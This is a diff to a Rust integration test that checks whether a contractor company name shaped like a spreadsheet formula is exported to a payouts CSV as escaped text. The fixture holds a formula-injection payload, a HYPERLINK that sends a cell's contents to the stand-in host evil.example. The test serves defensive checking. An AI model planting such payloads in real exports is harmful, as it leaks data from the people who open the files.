@@ -110,16 +110,7 @@ on_both_databases!(a_company_name_that_looks_like_a_formula_stays_text_in_the_cs
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")";
     let c = contractor(&app, &admin, "formula", json!({"basePostcode": "2150", "companyName": evil}), true).await;
     completed_job(&app, &admin, &key, &c, 10_000).await;
-    let csv = app
-        .http
-        .get(format!("{}/reports/payouts.csv", app.base))
-        .bearer_auth(&admin)
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
+    let csv = app.get_text(&admin, "/reports/payouts.csv").await;
     let mut rows = csv::Reader::from_reader(csv.as_bytes());
     let row = rows.records().map(Result::unwrap).find(|r| r[0].len() == 36).expect("a payout row");
     assert_eq!(&row[2], format!("'{evil}"), "the cell is text to a spreadsheet: {csv}");
